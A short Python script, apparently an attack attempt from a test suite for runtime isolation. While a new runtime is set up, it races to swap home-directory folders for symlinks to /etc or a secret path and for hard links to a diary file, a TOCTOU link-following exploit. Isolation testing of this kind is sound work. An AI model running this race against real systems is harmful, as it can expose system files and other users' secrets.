"""Swaps folders of its home for links and hard links while another runtime of the same person is made."""
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
from attempts import *

secret = sys.argv[1]
os.makedirs("/home/user/.ipython", exist_ok=True)
print("racing", flush=True)
while True:
    for name in (".ipython", ".local", "made-before"):
        path = "/home/user/" + name
        for make in (lambda: os.symlink("/etc", path), lambda: os.unlink(path), lambda: os.mkdir(path), lambda: os.rename(path, path + "x"),
                     lambda: os.symlink(secret, path), lambda: os.rename(path, path + "x"), lambda: os.unlink(path + "x"), lambda: os.rmdir(path + "x"),
                     lambda: os.link("/home/user/diary.txt", path), lambda: os.unlink(path)):
            try:
                make()
            except OSError:
                pass
